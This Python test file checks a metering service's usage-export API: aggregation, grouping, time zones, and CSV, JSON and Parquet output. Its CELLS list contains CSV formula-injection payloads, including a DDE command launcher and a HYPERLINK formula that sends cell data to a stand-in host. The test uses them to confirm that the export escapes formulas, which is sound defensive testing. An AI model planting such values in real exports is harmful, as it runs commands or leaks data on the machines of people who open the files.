import asyncio
import csv
import io
import json
import logging
from datetime import UTC, datetime
from decimal import Decimal
from typing import IO, Any
from urllib.parse import urlencode

import httpx
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from meterhouse import limits, zones
from meterhouse.errors import ExportError
from meterhouse.usage import export
from tests.api.local import DAY, HOUR, NOW, LocalServer
from tests.server import TEST_KEY

URL = "/meterhouse/v1/usage"
TODAY = NOW // DAY * DAY
START, END = TODAY - 10 * DAY, TODAY + DAY


class Books:
    """A local with three customers, and what was sent for them."""

    def __init__(self, local: LocalServer) -> None:
        self.local = local
        self.customers = sorted(local.customer() for _ in range(3))
        self.numbers = iter(range(1000))

    def meter(self, name: str = "calls", **data: str) -> str:
        return self.local.meter(name, **data)

    def send(
        self, customer: int, value: str, at: int = NOW, name: str = "calls", **payload: str
    ) -> str:
        identifier = f"event-{next(self.numbers)}"
        data = {
            "event_name": name,
            "identifier": identifier,
            "timestamp": str(at),
            "payload[stripe_customer_id]": self.customers[customer],
            "payload[value]": value,
            **{f"payload[{key}]": text for key, text in payload.items()},
        }
        self.local.create("/v1/billing/meter_events", data=data)
        return identifier

    def cancel(self, identifier: str, name: str = "calls") -> None:
        data = {"type": "cancel", "event_name": name, "cancel[identifier]": identifier}
        self.local.create("/v1/billing/meter_event_adjustments", data=data)

    def ask(self, meter: str, accept: str = "", **params: Any) -> httpx.Response:
        asked = {"starts_at": START, "ends_at": END, "meters[0][meter]": meter, **params}
        headers = {"Accept": accept} if accept else {}
        return self.local.request("GET", URL, params=asked, headers=headers)

    def rows(self, meter: str, **params: Any) -> list[dict[str, Any]]:
        answer = self.ask(meter, **params)
        assert answer.status_code == 200, answer.text
        rows: list[dict[str, Any]] = answer.json()["data"]
        return rows


@pytest.fixture
def books(local: LocalServer) -> Books:
    return Books(local)


def values(rows: list[dict[str, Any]]) -> list[float]:
    return [row["value"] for row in rows]


def test_all_customers_are_added_up(books: Books) -> None:
    meter = books.meter()
    books.send(0, "25")
    books.send(1, "0.5")
    books.cancel(books.send(2, "7"))
    answer = books.ask(meter)
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["content-length"] == str(len(answer.content))
    assert answer.headers["meterhouse-consistency"] == "strong"
    assert answer.json() == {
        "object": "meterhouse.usage",
        "as_of": None,
        "livemode": False,
        "refreshed_at": NOW,
        "timezone": "UTC",
        "timezone_rules": zones.rules().version,
        "data": [{"starts_at": START, "ends_at": END, "meter": meter, "value": 25.5}],
    }


def test_nothing_is_0_in_one_row_and_no_row_where_usage_is_cut(books: Books) -> None:
    meter = books.meter()
    assert values(books.rows(meter)) == [0]
    assert values(books.rows(meter, starts_at=START + 60, ends_at=START + 120)) == [0]
    assert books.rows(meter, value_grouping_window="day") == []
    assert books.rows(meter, group_by="customer") == []
    assert values(books.rows(meter, customer=books.customers[0])) == [0]


@pytest.mark.parametrize("formula", ["count", "last", "sum"])
@pytest.mark.parametrize("event_time_window", [{}, {"event_time_window": "hour"}])
def test_an_overview_is_the_sum_of_its_customers(
    books: Books, formula: str, event_time_window: dict[str, str]
) -> None:
    meter = books.meter(
        **{"default_aggregation[formula]": formula, "dimension_payload_keys[]": "model"},
        **event_time_window,
    )
    for number in range(15):
        at = NOW - number * 10 * HOUR // 3
        sent = books.send(number % 3, str(number), at, model=f"m{number % 2}", user=str(number % 5))
        if number % 7 == 0:
            books.cancel(sent)
    for cut in (
        {},
        {"value_grouping_window": "day", "timezone": "Asia/Kathmandu"},
        {"value_grouping_window": "week", "meters[0][dimension_group_by_keys][]": "model"},
        {"meters[0][tenant_group_by_keys][]": "user", "meters[0][dimension_filters][model]": "m1"},
    ):
        asked = {"starts_at": START, "ends_at": END, "meters[0][meter]": meter, **cut}
        expected: dict[str, float] = {}
        for customer in books.customers:
            path = "/v1/billing/analytics/meter_usage"
            params = asked | {"customer": customer}
            alone = books.local.request("GET", path, params=params).json()["data"]
            for row in alone:
                key = str((row["starts_at"], row["dimensions"], row.get("tenants")))
                expected[key] = expected.get(key, 0) + row["value"]
            mine = books.rows(meter, customer=customer, **cut)
            assert values(mine) == values(alone)
        found = {
            str((row["starts_at"], row.get("dimensions"), row.get("tenants"))): row["value"]
            for row in books.rows(meter, **cut)
        }
        assert found == expected


def test_the_top_groups_have_rows_of_their_own(books: Books) -> None:
    meter = books.meter()
    yesterday = NOW - DAY
    for customer, value, at in ((0, "1", NOW), (1, "5", yesterday), (2, "2", NOW), (2, "2", NOW)):
        books.send(customer, value, at)
    first, second = books.customers[1], books.customers[2]

    def told(**params: Any) -> list[tuple[Any, ...]]:
        rows = books.rows(meter, group_by="customer", **params)
        return [(row["customer"], row["other"], row["value"]) for row in rows]

    assert told(top=2) == [(first, False, 5), (second, False, 4), (None, True, 1)]
    assert told(top=1, value_grouping_window="day") == [(first, False, 5), (None, True, 5)]
    assert told(top=3) == [(books.customers[0], False, 1), (first, False, 5), (second, False, 4)]


def test_groups_are_customers_and_keys(books: Books) -> None:
    meter = books.meter(**{"dimension_payload_keys[]": "model"})
    books.send(0, "1", model="a", user="x")
    books.send(0, "2", model="b")
    params = {
        "meters[0][dimension_group_by_keys][]": "model",
        "meters[0][tenant_group_by_keys][]": "user",
    }
    one = {"starts_at": START, "ends_at": END, "meter": meter, "customer": books.customers[0]}
    assert books.rows(meter, group_by="customer", **params) == [
        {**one, "dimensions": {"model": "a"}, "tenants": {"user": "x"}, "value": 1},
        {**one, "dimensions": {"model": "b"}, "tenants": {"user": ""}, "value": 2},
    ]


def test_several_meters_come_one_after_the_other(books: Books) -> None:
    one = books.meter("calls", **{"dimension_payload_keys[]": "model"})
    two = books.meter("bytes")
    books.send(0, "3", name="bytes")
    books.send(0, "1", model="a")
    rows = books.rows(
        one, **{"meters[1][meter]": two, "meters[0][dimension_group_by_keys][]": "model"}
    )
    span = {"starts_at": START, "ends_at": END}
    assert rows == [
        {**span, "meter": one, "dimensions": {"model": "a"}, "value": 1},
        {**span, "meter": two, "dimensions": None, "value": 3},
    ]


def test_what_was_known_at_an_instant(books: Books) -> None:
    meter = books.meter()
    kept = books.send(0, "5")
    books.send(1, "7")
    books.local.clock.advance(10_000)
    books.cancel(kept)
    books.send(0, "100")
    books.local.clock.advance(10_000)
    assert values(books.rows(meter, as_of=NOW)) == [12]
    assert values(books.rows(meter, as_of=NOW + 9)) == [12]
    assert values(books.rows(meter, as_of=NOW + 10)) == [107]
    assert values(books.rows(meter, as_of=NOW + 10, customer=books.customers[0])) == [100]
    assert values(books.rows(meter)) == [107]


def test_csv(books: Books) -> None:
    meter = books.meter(**{"dimension_payload_keys[]": "model"})
    books.send(0, "123456789012345", model='a "b", c')
    books.send(1, "0.000000000000001", model="d")
    answer = books.ask(
        meter,
        "text/csv",
        value_grouping_window="day",
        **{"meters[0][dimension_group_by_keys][]": "model", "top": 1},
    )
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["meterhouse-refreshed-at"] == str(NOW)
    day, after = "2026-11-21T00:00:00Z", "2026-11-22T00:00:00Z"
    assert list(csv.reader(io.StringIO(answer.text))) == [
        ["starts_at", "ends_at", "meter", "dimensions.model", "other", "value"],
        [day, after, meter, 'a "b", c', "false", "123456789012345"],
        [day, after, meter, "", "true", "0.000000000000001"],
    ]


# what a payload has, what CSV has
CELLS = [
    ("gpt-4", "gpt-4"),
    ("=SUM(A1)", "'=SUM(A1)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://x/?"&A1,"see")', '\'=HYPERLINK("http://x/?"&A1,"see")'),
    ("+49 30 1", "'+49 30 1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    ("\n=1", "'\n'=1"),
    ("\tplain", "'\tplain"),
    ("  =1", "'  =1"),
    ("\uff1d1", "'\uff1d1"),  # a wide one, which some spreadsheets take for a narrow one
    ("a;=1;b", "a;'=1;b"),  # where lists are cut by semicolons, three cells
    ("a;b\t@x\n+1", "a;b\t'@x\n'+1"),
    ("a=1", "a=1"),
    ("a, =1", "a, =1"),  # quoted, as it has a comma
    ("a -1; b", "a -1; b"),
    ("'=1", "'=1"),
    ("é=1", "é=1"),
]


def test_no_cell_of_a_csv_is_a_formula(books: Books) -> None:
    meter = books.meter(**{"dimension_payload_keys[]": "a;=kind"})
    for number, (sent, _) in enumerate(CELLS):
        payload: dict[str, Any] = {"a;=kind": sent}
        books.send(0, f"-{number}.5", **payload)
    grouped = {"meters[0][dimension_group_by_keys][]": "a;=kind"}
    answer = books.ask(meter, "text/csv", **grouped)
    head, *lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    assert head[3] == "dimensions.a;'=kind"
    numbers = {sent: f"-{number}.5" for number, (sent, _) in enumerate(CELLS)}
    assert {line[3]: line[4] for line in lines} == {cell: numbers[sent] for sent, cell in CELLS}
    rows = books.rows(meter, **grouped)
    assert {row["dimensions"]["a;=kind"] for row in rows} == set(numbers)
    answer = books.ask(meter, "application/vnd.apache.parquet", **grouped)
    table = pq.read_table(io.BytesIO(answer.content))
    assert set(table["dimensions.a;=kind"].to_pylist()) == set(numbers)


def test_csv_begins_with_the_mark_that_excel_wants_where_it_is_asked_for(books: Books) -> None:
    meter = books.meter()
    plain = books.ask(meter, "text/csv").content
    marked = books.ask(meter, "text/csv", byte_order_mark="true")
    assert marked.headers["content-type"] == "text/csv; charset=utf-8"
    assert marked.headers["content-length"] == str(len(marked.content))
    assert (marked.content, plain[:9]) == (b"\xef\xbb\xbf" + plain, b"starts_at")
    assert books.ask(meter, byte_order_mark="true").json() == books.ask(meter).json()


def test_rows_tell_the_local_time_of_a_zone_that_is_named(books: Books) -> None:
    """2 November in Vancouver began at 07:00 UTC, whatever rules the reader of a file has."""
    meter = books.meter()
    start = int(datetime(2026, 11, 2, 7, tzinfo=UTC).timestamp())
    books.send(0, "1", start)
    books.send(0, "2", start - 1)
    asked = {"starts_at": start - DAY, "ends_at": start + DAY, "timezone": "America/Vancouver"}
    rules = zones.rules().version

    def local(**params: Any) -> list[str]:
        return [row["local_start"] for row in books.rows(meter, **asked, **params)]

    assert local(value_grouping_window="day") == ["2026-11-01", "2026-11-02"]
    assert local(value_grouping_window="hour") == ["2026-11-01T23:00", "2026-11-02T00:00"]
    assert local(value_grouping_window="week") == ["2026-10-26", "2026-11-02"]
    assert local() == ["2026-11-01T00:00"]
    assert "local_start" not in books.rows(meter)[0]

    by_day: dict[str, Any] = {**asked, "value_grouping_window": "day"}
    answer = books.ask(meter, **by_day)
    assert answer.headers["meterhouse-timezone-rules"] == rules
    document = answer.json()
    assert (document["timezone"], document["timezone_rules"]) == ("America/Vancouver", rules)
    assert [row["starts_at"] for row in document["data"]] == [start - DAY, start]
    answer = books.ask(meter, "text/csv", **by_day)
    assert answer.headers["meterhouse-timezone-rules"] == rules
    assert list(csv.reader(io.StringIO(answer.text)))[::2] == [
        ["starts_at", "ends_at", "local_start", "meter", "value", "timezone", "timezone_rules"],
        ["2026-11-02T07:00:00Z", "2026-11-03T07:00:00Z", "2026-11-02", meter, "1",
         "America/Vancouver", rules],
    ]  # fmt: skip
    answer = books.ask(meter, "application/vnd.apache.parquet", **by_day)
    table = pq.read_table(io.BytesIO(answer.content))
    assert table["local_start"].to_pylist() == ["2026-11-01", "2026-11-02"]
    assert json.loads(table.schema.metadata[b"meterhouse"])["timezone_rules"] == rules


def test_parquet(books: Books) -> None:
    meter = books.meter()
    books.send(0, "0.1")
    books.send(0, "0.2")
    answer = books.ask(meter, "application/vnd.apache.parquet", group_by="customer")
    [row] = pq.read_table(io.BytesIO(answer.content)).to_pylist()
    assert (row["customer"], row["value"]) == (books.customers[0], Decimal("0.3"))
    assert row["starts_at"].timestamp() == START


@pytest.mark.parametrize(
    ("params", "param", "word"),
    [
        ({"top": 3}, "top", "grouped"),
        ({"as_of": NOW + 1}, "as_of", "future"),
        ({"customer": "cus_none"}, "customer", "cus_none"),
        ({"meters[0][meter]": "mtr_none"}, "meters[0][meter]", "mtr_none"),
        ({"group_by": "meter"}, "group_by", "customer"),
        ({"top": 1001, "group_by": "customer"}, "top", "1000"),
        ({"timezone": "Mars/Olympus"}, "timezone", "Mars"),
        ({"timezone": "localtime"}, "timezone", "localtime"),
        ({"ends_at": START - 60}, None, "start_time"),
    ],
)
def test_what_cannot_be_answered(
    books: Books, params: dict[str, Any], param: str | None, word: str
) -> None:
    meter = books.meter()
    answer = books.ask(meter, **params)
    assert answer.status_code in (400, 404)
    error = answer.json()["error"]
    assert error.get("param") == param
    assert word in error["message"]


def test_a_format_that_there_is_not(books: Books) -> None:
    answer = books.ask(books.meter(), "image/png")
    assert answer.status_code == 406
    assert "text/csv" in answer.json()["error"]["message"]


def test_a_long_answer_is_made_piece_by_piece(
    books: Books, monkeypatch: pytest.MonkeyPatch
) -> None:
    meter = books.meter()
    for number in range(12):
        books.send(number % 3, str(number), NOW - number * DAY // 2)
    asked = {"group_by": "customer", "value_grouping_window": "day"}
    whole = books.rows(meter, **asked)
    monkeypatch.setattr(export, "USAGE_BATCH_ROWS_MAX", 3)
    assert books.rows(meter, **asked) == whole
    for refused in ({"top": 2, **asked}, {"meters[0][tenant_group_by_keys][]": "value"}):
        answer = books.ask(meter, **refused)
        assert answer.status_code == 400
        assert "more than 3 rows" in answer.json()["error"]["message"]


def test_a_value_that_parquet_has_no_room_for() -> None:
    with pytest.raises(ExportError, match="Ask for CSV or JSON"):
        export._decimals(pa.chunked_array([["1" * 24]]))


def test_nothing_stays_behind(books: Books) -> None:
    meter = books.meter()
    books.ask(meter)
    assert not list((books.local.meterhouse.config.data_dir / "exports").iterdir())


def test_answers_that_are_not_read_are_few(books: Books, monkeypatch: pytest.MonkeyPatch) -> None:
    """Given as many as one sender may have, then there is another once one of them is closed."""
    monkeypatch.setattr(limits, "USAGE_SENDER_HELD_EXPORTS_MAX", 2)
    meter, exports = books.meter(), books.local.meterhouse.services.exports
    kept: list[IO[bytes]] = []
    write = exports.write

    async def keep(*args: Any) -> IO[bytes]:
        kept.append(await write(*args))
        return await write(*args)

    monkeypatch.setattr(exports, "write", keep)
    assert books.ask(meter).status_code == 200
    refused = books.ask(meter)
    assert refused.status_code == 429
    monkeypatch.setattr(exports, "write", write)
    assert books.ask(meter).status_code == 429
    assert refused.headers["stripe-rate-limited-reason"] == "endpoint-concurrency"
    kept.pop().close()
    assert [books.ask(meter).status_code for _ in range(3)] == [200, 200, 200]
    kept.pop().close()


def test_the_last_of_the_disk_is_for_no_answer(
    books: Books, monkeypatch: pytest.MonkeyPatch
) -> None:
    meter = books.meter()
    monkeypatch.setattr(limits, "USAGE_EXPORT_LEFT_BYTES", 2**60)
    monkeypatch.setattr(logging.getLogger("meterhouse.request"), "disabled", True)
    for accept in ("application/json", "text/csv", "application/vnd.apache.parquet"):
        assert books.ask(meter, accept=accept).status_code == 503
    assert not list((books.local.meterhouse.config.data_dir / "exports").iterdir())


def test_an_answer_whose_client_goes_away_is_closed(
    books: Books, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a client that takes the head and nothing more, then the file goes when it does."""
    local = books.local
    exports, kept, gone = local.meterhouse.services.exports, list[IO[bytes]](), asyncio.Event()
    write, pieces = exports.write, [{"type": "http.request", "body": b""}]

    async def keep(*args: Any) -> IO[bytes]:
        kept.append(await write(*args))
        return kept[-1]

    async def receive() -> Any:
        if pieces:
            return pieces.pop()
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: Any) -> None:
        if message["type"] == "http.response.body":
            gone.set()
            await asyncio.Event().wait()

    monkeypatch.setattr(exports, "write", keep)
    meter = books.meter()
    query = {"meters[0][meter]": meter, "starts_at": START, "ends_at": END}
    scope = {
        "type": "http",
        "method": "GET",
        "http_version": "1.1",
        "path": "/meterhouse/v1/usage",
        "query_string": urlencode(query).encode(),
        "headers": [(b"authorization", b"Bearer " + TEST_KEY.encode())],
    }
    local.run(local.meterhouse.asgi(scope, receive, send))
    assert [file.closed for file in kept] == [True]
